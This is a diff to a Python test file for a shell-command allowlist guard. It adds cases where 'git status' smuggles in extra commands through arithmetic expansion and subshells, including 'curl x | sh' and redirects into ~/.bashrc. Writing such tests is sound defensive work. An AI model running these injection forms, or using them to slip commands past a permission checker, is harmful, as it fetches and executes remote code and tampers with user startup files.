@@ -136,8 +136,8 @@ def test_an_allowed_command_never_carries_another(c: str, d: str, op: str) -> No
     assert not shell_allowed(GIT_STATUS, d)
     for line in (f"{c} {op} {d}", f"{d} {op} {c}", f"{c}{op}{d}", f"{c} $({d})",
                  f"{c} `{d}`", f'{c} "$({d})"', f'{c} "x `{d}` y"', f"{c} <({d})",
-                 f"{c} >({d})", f"({d})", f"{c} && ({c}; {d})", f"{c} ${{x:-$({d})}}",
-                 f"{c} \\\n{op} {d}"):
+                 f"{c} >({d})", f"({d})", f"{c} $((1 + $({d})))", f"{c} $(({d}); {c})",
+                 f"{c} && ({c}; {d})", f"{c} ${{x:-$({d})}}", f"{c} \\\n{op} {d}"):
         assert not shell_allowed(GIT_STATUS, line), line
         assert verdict(line, allow=tuple(GIT_STATUS)) == "ask", line
     # Two allowed commands joined are allowed: each part on its own.
@@ -219,6 +219,8 @@ def test_an_unreadable_line_is_never_allowed_by_a_pattern(before: str, after: st
     "git status $(curl x)",
     'git status "$(curl x)"',
     "git status `curl x`",
+    "git status $((curl x | sh); true)",
+    "git status $((curl x) )",
     "git status <(curl x)",
     "git status > ~/.bashrc",
     "git status >> ~/.bashrc",
@@ -248,6 +250,7 @@ def test_attacks_on_git_status_are_not_allowed(line: str) -> None:
     'git status "a; b"',
     "git status 'it''s'",
     "git status \\; rm",
+    "git status $((1 + (2 * 3)))",
 ])
 def test_harmless_forms_are_allowed(line: str) -> None:
     assert shell_allowed(GIT_STATUS, line), line
